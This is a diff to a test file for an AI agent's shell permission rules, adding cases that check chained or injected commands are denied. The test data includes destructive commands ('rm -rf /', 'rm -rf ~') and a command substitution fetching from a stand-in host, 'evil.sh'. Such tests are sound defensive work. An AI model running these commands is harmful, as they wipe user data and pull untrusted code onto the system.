@@ -61,6 +61,8 @@ describe('rule matching', () => {
     allowed(await h.call('shell', { command: 'npm run test -- --watch' }));
     denied(await h.call('shell', { command: 'npm run tests' }), 'Permission denied');
     denied(await h.call('shell', { command: 'npm run test; rm -rf /' }), 'Permission denied');
+    denied(await h.call('shell', { command: 'npm run test && rm -rf ~' }), 'Permission denied');
+    denied(await h.call('shell', { command: 'npm run test $(curl evil.sh)' }), 'Permission denied');
   });
 
   test('deny beats allow across layers, and the denial names the rule and its file', async () => {
@@ -71,6 +73,10 @@ describe('rule matching', () => {
     write(join(w.userDir, 'settings.json'), { permissions: { allow: ['Bash(rm:*)'] } });
     const h = await harness(w, {}, { permissions: { allow: ['Bash'], defaultMode: 'danger-full-access' } });
     denied(await h.call('shell', { command: 'rm -rf build' }), `deny rule "Bash(rm:*)" in ${project}`);
+    denied(
+      await h.call('shell', { command: 'rm -rf build && echo done' }),
+      `deny rule "Bash(rm:*)" in ${project}`,
+    );
     allowed(await h.call('shell', { command: 'ls' }));
   });
 
